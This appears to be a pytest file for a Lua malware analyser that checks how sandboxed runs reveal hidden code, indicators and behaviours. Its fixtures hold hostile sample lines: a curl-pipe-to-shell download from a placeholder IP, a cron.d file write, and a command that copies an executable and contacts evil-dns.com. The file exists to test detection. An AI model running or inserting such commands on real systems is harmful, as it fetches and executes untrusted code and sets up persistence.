"""What a controlled run adds to what was read: a record with its places, unpacked code, and where each was seen."""

from __future__ import annotations

import pytest

from perilune.analysis import lua
from perilune.model.lua import Call, Event, Identity, Loaded, LuaAnalysis, Outcome, Trace
from perilune.report import lua_view

HIDDEN = b"os.execute('curl http://203.0.113.9/a | sh')"
TRACE = Trace(
    Outcome.EXPLAINED,
    events=(
        Event("load", ("os.execute('curl http://203.0.113.9/a | sh')",)),
        Event("os.execute", ("curl http://203.0.113.9/a | sh",), times=2),
    ),
    chunks=(Loaded(HIDDEN, "load"),),
    strings=("a text of several\nlines",),
)


def _ran(code: bytes, trace: Trace = TRACE) -> LuaAnalysis:
    def execute(given: bytes, identity: Identity, name: str) -> Trace:
        assert given == code
        return trace

    return lua.analyze(code, "x.lua", execute=execute)


def test_a_run_shows_what_reading_could_not() -> None:
    code = b"local f = load(decrypt(x)) f()"
    assert "shell-download" not in lua.analyze(code).intents
    found = _ran(code)
    assert {"shell-download", "hidden-code"} <= set(found.intents)
    assert "http://203.0.113.9/a" in {one.value for one in found.indicators}
    (run,) = found.runs
    assert run.record is not None
    record = found.layers[run.record]
    assert (record.kind, record.parent) == ("run", 0)
    assert 'os.execute("curl http://203.0.113.9/a | sh")  2 times' in record.text.split("\n")
    inner = [one for one in found.layers if one.text == HIDDEN.decode()]
    assert [one.parent for one in inner] == [run.record]
    assert all(0 <= one.start <= one.end <= len(found.layers[one.layer].text) for one in found.calls)


def test_each_behaviour_says_how_it_was_seen() -> None:
    view = lua_view.lay_out(_ran(b"local f = load(decrypt(x)) f() io.open('/etc/cron.d/x', 'w')"))
    how = {one.capability.id: one.how for one in view.behaviours}
    assert how["process"] == "seen running"
    assert how["file-write"] == "read"
    assert how["dynamic-code"] == "read, and seen running"
    assert {one.how for one in lua_view.lay_out(lua.analyze(HIDDEN)).behaviours} == {""}


def test_what_was_made_up_for_the_run_is_marked_as_ours() -> None:
    copied = Event(
        "os.execute", ("copy a.exe C:\\Users\\d.weber\\a.exe & ping FIN-WS-0417.evil-dns.com & curl evil-dns.com",)
    )
    found = _ran(b"local f = load(decrypt(x)) f()", Trace(Outcome.EXPLAINED, events=(copied,)))
    ours = {one.value: [listing.benign for listing in one.listings] for one in found.indicators}
    assert ours["C:\\Users\\d.weber\\a.exe"] == [True]
    assert ours["evil-dns.com"] == []
    assert found.decoys == (("d.weber", "a user's name and home"), ("fin-ws-0417", "a host's name"))


def test_what_could_not_run_is_told_and_changes_nothing_else() -> None:
    refused = _ran(HIDDEN, Trace(Outcome.NOT_EXECUTED, "isolation unavailable"))
    read = lua.analyze(HIDDEN, "x.lua")
    assert refused.runs[0].record is None
    assert (refused.calls, refused.intents, refused.score) == (read.calls, read.intents, read.score)


@pytest.mark.parametrize("code", [b"\x1b[2J\0", b"plain words"])
def test_what_is_no_lua_is_not_run(code: bytes) -> None:
    def execute(given: bytes, identity: Identity, name: str) -> Trace:
        raise AssertionError("run")

    assert lua.analyze(code, execute=execute).runs == ()


def test_a_call_shows_what_is_known() -> None:
    assert Call("f", 0, 0, 1, ("x", "12", "nil", "=os.time", None)).text() == 'f("x", 12, nil, os.time, ?)'
